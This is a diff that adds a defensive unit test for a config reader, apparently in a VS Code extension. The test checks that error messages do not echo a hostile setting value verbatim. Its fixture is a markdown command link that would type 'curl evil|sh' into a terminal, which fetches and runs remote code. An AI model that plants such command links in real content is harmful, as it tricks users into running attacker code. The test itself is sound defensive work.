@@ -52,4 +52,16 @@ describe('readConfig', () => {
     assert.equal(problems[0]?.setting, 'sail.baseUrl');
     assert.match(problems[0]?.message ?? '', /loopback/);
   });
+
+  it('names an invalid setting without echoing a hostile value verbatim', () => {
+    const hostile = '[Open Settings](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
+    const { config, problems } = readConfig(reader({ openResult: hostile, temperature: -1 }));
+    assert.equal(config.openResult, 'notify');
+    const openResult = problems.find((p) => p.setting === 'sail.openResult');
+    assert.ok(openResult);
+    assert.match(openResult.message, /^sail\.openResult = /);
+    assert.ok(!openResult.message.includes(hostile), openResult.message);
+    assert.doesNotMatch(openResult.message, /\]\(command:/);
+    assert.ok(openResult.message.length < 300, `${openResult.message.length} characters`);
+  });
 });
